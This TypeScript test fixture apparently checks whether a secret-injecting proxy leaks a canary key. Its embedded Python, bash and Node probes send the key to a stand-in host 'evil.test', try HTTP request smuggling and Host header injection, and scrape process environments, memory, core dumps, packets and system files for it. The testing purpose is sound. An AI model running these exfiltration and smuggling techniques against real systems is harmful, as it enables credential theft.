/** A program that has a placeholder in KEY, and says `FOUND` when it sees the value anywhere. */
export interface SecretProgram {
  readonly name: string
  readonly language: string
  readonly code: string
  /** Whether the value goes to its host, as it should. */
  readonly isHonest: boolean
}

/** What a value looks like; nothing else does. */
export const valueOf = (digits: string) => `canary-${digits}`

const prelude = `
import base64, http.client, json, os, re, socket, ssl, sys, time, urllib.parse, zlib
KEY = os.environ["KEY"]
PORT, OTHER, PLAIN = (int(os.environ[name]) for name in ("PORT", "OTHER", "PLAIN"))
mark = re.compile(rb"canary-[0-9a-f]{32}|[0-9a-f]{32}-yranac", re.I)
def spellings(data):
    yield data
    yield urllib.parse.unquote_to_bytes(data)
    for run in re.findall(rb"[A-Za-z0-9+/_-]{20,}", data)[:2000]:
        for cut in range(4):
            part = run[cut:].replace(b"-", b"+").replace(b"_", b"/")
            try: yield base64.b64decode(part[:len(part) // 4 * 4])
            except Exception: pass
    for run in re.findall(rb"[0-9A-Fa-f]{40,}", data)[:2000]:
        for cut in range(2):
            part = run[cut:]
            yield bytes.fromhex(part[:len(part) // 2 * 2].decode())
def look(where, data):
    if isinstance(data, str): data = data.encode("utf-8", "surrogateescape")
    if any(mark.search(each) for each in spellings(data)): print("FOUND", where)
def ask(path, headers=None, name="api.test", port=None, method="GET", body=None):
    connection = http.client.HTTPSConnection("127.0.0.1", 3128, timeout=20)
    connection.set_tunnel(name, port or PORT)
    connection.request(method, path, body, headers if headers is not None else {"Authorization": "Bearer " + KEY})
    response = connection.getresponse()
    data = response.read()
    look(path, data)
    look(path + " head", repr(response.getheaders()) + str(response.reason))
    return response.status, data
def tunnel(name="api.test", port=None):
    raw = socket.create_connection(("127.0.0.1", 3128), 10)
    raw.settimeout(10)
    raw.sendall(f"CONNECT {name}:{port or PORT} HTTP/1.1\\r\\nHost: {name}:{port or PORT}\\r\\n\\r\\n".encode())
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        some = raw.recv(1)
        if not some: break
        head += some
    return raw
def converse(bytes_, sni="api.test", verify=True):
    context = ssl.create_default_context()
    if not verify: context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with context.wrap_socket(tunnel(), server_hostname=sni) as secured:
            secured.sendall(bytes_)
            got = b""
            while some := secured.recv(65536): got += some
    except OSError as error:
        got = repr(error).encode()
    look("conversation", got)
    return got
`

const python = (name: string, isHonest: boolean, code: string): SecretProgram => ({
  name,
  language: "python",
  code: `${prelude}${code}\nprint("DONE")\n`,
  isHonest
})

const echo = (path: string) => python(`echo ${path}`, true, `assert ask("${path}")[0] in (200, 401, 500)`)

const echoes = [
  ...["/plain", "/base64", "/base64url", "/hex", "/url", "/json", "/gzip", "/backwards", "/chunks"],
  ...["/header", "/header-name", "/status", "/trailer", "/error"]
].map(echo)

const tricks: ReadonlyArray<SecretProgram> = [
  python(
    "Basic credentials",
    true,
    `
credentials = base64.b64encode(("me:" + KEY).encode()).decode()
ask("/plain", {"Authorization": "Basic " + credentials})`
  ),
  python(
    "many requests on one connection",
    true,
    `
connection = http.client.HTTPSConnection("127.0.0.1", 3128, timeout=20)
connection.set_tunnel("api.test", PORT)
for path in ("/plain", "/json", "/gzip", "/chunks", "/hex"):
    connection.request("GET", path, headers={"Authorization": KEY})
    look(path, connection.getresponse().read())`
  ),
  python(
    "urllib, as everybody uses it",
    true,
    `
import urllib.request
request = urllib.request.Request(f"https://api.test:{PORT}/json", headers={"Authorization": "Bearer " + KEY})
look("urllib", urllib.request.urlopen(request).read())`
  ),
  python(
    "parts of an answer",
    true,
    `
for first in range(0, 60, 10): ask("/range", {"Authorization": KEY, "Range": f"bytes={first}-{first + 9}", "If-Range": "x"})`
  ),
  python(
    "the processes",
    true,
    `
ask("/plain")
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "status"):
        try: look(pid + name, open(f"/proc/{pid}/{name}", "rb").read())
        except OSError: pass
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if end - start > 1 << 26: continue
                try:
                    memory.seek(start)
                    if mark.search(memory.read(end - start)): print("FOUND memory", pid)
                except (OSError, ValueError, OverflowError): pass
    except OSError: pass`
  ),
  python(
    "the files",
    true,
    `
ask("/plain")
for top in ("/etc", "/run", "/tmp", "/dev/shm", "/var", "/home", "/root", "/opt", "/sys/fs/cgroup"):
    for directory, _, names in os.walk(top):
        for name in names[:200]:
            try:
                with open(os.path.join(directory, name), "rb") as file:
                    if mark.search(file.read(1 << 20)): print("FOUND", directory, name)
            except OSError: pass`
  ),
  python(
    "a core",
    true,
    `
import resource, subprocess
try: resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (ValueError, OSError): pass
ask("/plain")
if os.fork() == 0: os.abort()
os.wait()
for name in os.listdir("."):
    if name.startswith("core"): look(name, open(name, "rb").read())`
  ),
  python(
    "an error that has the key",
    true,
    `
ask("/error")
try: raise RuntimeError("cannot use " + KEY)
except RuntimeError as error: look("error", repr(error)); sys.stderr.write(repr(error))`
  ),
  python(
    "packets",
    true,
    `
for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 6)):
    try:
        listener = socket.socket(family, kind, socket.htons(protocol) if family == socket.AF_PACKET else protocol)
        listener.settimeout(0.5)
    except OSError: continue
    ask("/plain")
    try:
        while True: look("packet", listener.recv(65536))
    except OSError: pass
ask("/plain")`
  ),
  python(
    "a redirect to another host",
    true,
    `
status, _ = ask("/redirect")
assert status == 302
ask("/plain", name="evil.test", port=OTHER)`
  ),
  python(
    "what a request leaves in the output directory",
    true,
    `
_, data = ask("/json")
os.makedirs("output", exist_ok=True)
open("output/answer.txt", "wb").write(data + KEY.encode())`
  ),
  python(
    "TRACE and methods that override",
    true,
    `
for method in ("TRACE", "OPTIONS", "PUT"):
    try: ask("/plain", {"Authorization": KEY, "X-Http-Method-Override": "TRACE"}, method=method)
    except OSError: pass`
  ),
  python(
    "another port, and another host",
    false,
    `
for name in ("api.test", "evil.test"):
    try: ask("/plain", name=name, port=OTHER)
    except OSError: pass`
  ),
  python(
    "plain HTTP",
    false,
    `
for url in (f"http://api.test:{PLAIN}/plain", f"http://api.test:{PORT}/plain"):
    try:
        connection = http.client.HTTPConnection("127.0.0.1", 3128, timeout=20)
        connection.request("GET", url, headers={"Authorization": KEY})
        look(url, connection.getresponse().read())
    except OSError: pass`
  ),
  python(
    "URL and body",
    false,
    `
_, data = ask("/plain?key=" + KEY, {}, method="POST", body=KEY)
ask("/" + KEY, {})`
  ),
  python(
    "another name in the ClientHello",
    false,
    `
request = f"GET /plain HTTP/1.1\\r\\nHost: api.test:{PORT}\\r\\nAuthorization: {KEY}\\r\\nConnection: close\\r\\n\\r\\n".encode()
for sni in ("evil.test", "127.0.0.1", "API.TEST.evil.test", None): converse(request, sni, verify=False)`
  ),
  python(
    "another Host",
    false,
    `
for host in ("evil.test", f"api.test:{OTHER}", "api.test", f"api.test:{PORT}.evil.test", f"evil.test\\r\\nHost: api.test:{PORT}"):
    converse(f"GET /plain HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: {KEY}\\r\\nConnection: close\\r\\n\\r\\n".encode())
converse(f"GET https://evil.test/ HTTP/1.1\\r\\nHost: api.test:{PORT}\\r\\nAuthorization: {KEY}\\r\\nConnection: close\\r\\n\\r\\n".encode())`
  ),
  python(
    "a request within another",
    false,
    `
inner = f"GET /plain HTTP/1.1\\r\\nHost: evil.test\\r\\nAuthorization: {KEY}\\r\\n\\r\\n"
head = f"POST /plain HTTP/1.1\\r\\nHost: api.test:{PORT}\\r\\n"
for lengths in (f"Content-Length: {len(inner) + 5}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}",
                f"Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\n{inner}",
                f"Content-Length: 0\\r\\nContent-Length: {len(inner)}\\r\\n\\r\\n{inner}",
                f"Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}",
                f"X: y\\r\\n Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}"):
    converse((head + lengths).encode())`
  ),
  python(
    "an upgrade",
    false,
    `
converse(f"GET /plain HTTP/1.1\\r\\nHost: api.test:{PORT}\\r\\nAuthorization: {KEY}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: x\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n".encode())`
  ),
  python(
    "somebody else's placeholder",
    false,
    `
for other in ("bulkhead_secret_" + "0" * 32, KEY[:-1], KEY.upper(), KEY.replace("_", "-")):
    ask("/plain", {"Authorization": other})`
  ),
  {
    name: "curl",
    language: "bash",
    code: `curl -sS -m 20 -H "Authorization: Bearer $KEY" "https://api.test:$PORT/plain" > answer
grep -qE 'canary-[0-9a-f]{32}' answer && echo FOUND
cat answer; env; cat /proc/self/environ /proc/$PPID/environ 2>/dev/null | tr '\\0' '\\n' | grep -E 'canary-[0-9a-f]{32}' && echo FOUND
echo; echo DONE`,
    isHonest: true
  },
  {
    name: "Node's TLS",
    language: "javascript",
    code: `const http = require("node:http"), https = require("node:https")
const { KEY, PORT } = process.env
http.request({ port: 3128, method: "CONNECT", path: "api.test:" + PORT, headers: { host: "api.test:" + PORT } })
  .on("connect", (_, socket) => {
    https.get({ socket, agent: false, host: "api.test", port: PORT, path: "/json", headers: { authorization: KEY } }, (answer) => {
      let all = JSON.stringify(answer.rawHeaders)
      answer.on("data", (some) => { all += some })
      answer.on("end", () => { if (/canary-[0-9a-f]{32}/.test(all)) console.log("FOUND"); console.log(all, "DONE"); process.exit() })
    })
  }).end()`,
    isHonest: true
  }
]

export const programs: ReadonlyArray<SecretProgram> = [...echoes, ...tricks]
